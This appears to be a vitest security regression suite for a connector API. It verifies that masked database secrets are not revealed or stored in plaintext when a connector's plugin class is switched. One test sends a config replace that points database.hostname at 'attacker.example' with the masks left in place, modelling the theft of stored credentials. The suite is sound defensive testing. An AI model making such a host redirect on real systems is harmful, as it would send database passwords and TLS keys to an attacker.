// Attack 2 — reading a stored plaintext secret back by switching plugins. A
// PostgresCdcSourceV2 connector keeps database.sslkey (a PASSWORD field)
// encrypted and shows it masked. Replacing its config with connector.class
// MySqlCdcSourceV2 — which has no database.sslkey — while leaving the masks in
// place must not turn the mask back into the stored value under a key that is
// no longer a secret (it would then be stored and shown in plaintext): the
// replace is refused with a field error on database.sslkey, and the value
// appears in no response, log or database row. Likewise a replace that points
// the connector at another host may not carry the stored secrets there.
//
// Depends on: the mask fix of branch h-mask (merged in main, 96371c5). Passes on main.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { CanaryRegistry } from "./canaries.js";
import { connectorIds, expectNoCanaries, postgresConnector, seedSecureEnvironment, startSecureServer, startSecurityAzure, storeTargets, type SecureServer, type SecurityAzure } from "./harness.js";

interface ConnectError { error: { code: number; message: string } }
interface Info { name: string; config: Record<string, string>; type: string }

const MASK = "****************";
const registry = new CanaryRegistry();
let azure: SecurityAzure;
beforeAll(async () => { azure = await startSecurityAzure(registry); });
afterAll(async () => { await azure.close(); });

describe.each(storeTargets())("switching plugins on $name", (target) => {
  let server: SecureServer;
  let base: string;
  const password = registry.plant("connector-password", `plaintext database.password (${target.name})`);
  const sslkey = registry.plant("connector-sslkey", `plaintext database.sslkey (${target.name})`);
  const sslrootcert = registry.plant("connector-sslkey", `plaintext database.sslrootcert (${target.name})`);

  beforeAll(async () => {
    server = await startSecureServer(target, azure);
    base = (await seedSecureEnvironment(server, azure)).base;
    const created = await server.api("POST", `${base}/connectors`, postgresConnector("switch", { user: "sa", password, extra: { "database.sslmode": "verify-ca", "database.sslkey": sslkey, "database.sslrootcert": sslrootcert } }));
    expect(created.status, created.text).toBe(201);
  });
  afterAll(async () => { await server.close(); });

  /** The stored config as the API shows it, for before/after comparisons. */
  const shown = async () => (await server.api<Record<string, string>>("GET", `${base}/connectors/switch/config`)).body;

  it("keeps the PostgreSQL connector's TLS key and root certificate masked", async () => {
    expect(await shown()).toMatchObject({ "connector.class": "PostgresCdcSourceV2", "database.password": MASK, "database.sslkey": MASK, "database.sslrootcert": MASK });
  });

  it("refuses a replace with MySqlCdcSourceV2 that leaves the masks: 400 naming database.sslkey, nothing changed", async () => {
    const before = await shown();
    const mysql = {
      ...before,
      "connector.class": "MySqlCdcSourceV2",
      "database.port": "3306",
      "database.ssl.mode": "required",
      "database.password": MASK,
      "database.sslkey": MASK,
      "database.sslrootcert": MASK,
    };
    Reflect.deleteProperty(mysql, "database.sslmode");
    const put = await server.api<ConnectError>("PUT", `${base}/connectors/switch/config`, mysql);
    expect(put.status, put.text).toBe(400);
    expect(put.body.error.message).toMatch(/(^|\n)database\.sslkey: /);
    expect(await shown()).toEqual(before);
    const info = await server.api<Info>("GET", `${base}/connectors/switch`);
    expect(info.body.config["database.sslkey"]).toBe(MASK);
    expect((await server.api<Record<string, { info: Info }>>("GET", `${base}/connectors?expand=info`)).body.switch?.info.config["connector.class"]).toBe("PostgresCdcSourceV2");
  });

  it("refuses a replace that sends the stored secrets to another host with the masks left (400 naming them), nothing changed", async () => {
    const before = await shown();
    const put = await server.api<ConnectError>("PUT", `${base}/connectors/switch/config`, { ...before, "database.hostname": "attacker.example" });
    expect(put.status, put.text).toBe(400);
    expect(put.body.error.message).toMatch(/(^|\n)database\.password: /);
    expect(put.body.error.message).toMatch(/(^|\n)database\.sslkey: /);
    expect(await shown()).toEqual(before);
  });

  it("a masked key kept under the same plugin and destination still means the stored value (the ordinary update)", async () => {
    const put = await server.api<Info>("PUT", `${base}/connectors/switch/config`, { ...await shown(), "tasks.max": "2" });
    expect(put.status, put.text).toBe(200);
    expect(put.body.config).toMatchObject({ "tasks.max": "2", "database.sslkey": MASK, "database.password": MASK });
    const stored = (await server.running.store.connectors.listAll()).find((c) => c.name === "switch");
    expect(stored?.config["database.sslkey"]).toBeUndefined();
    expect(Object.keys(await connectorIds(server, base))).toEqual(["switch"]);
  });

  it("final scan: the key, the certificate and the password are in no response, log or database row", async () => {
    await expectNoCanaries(server);
  });
});
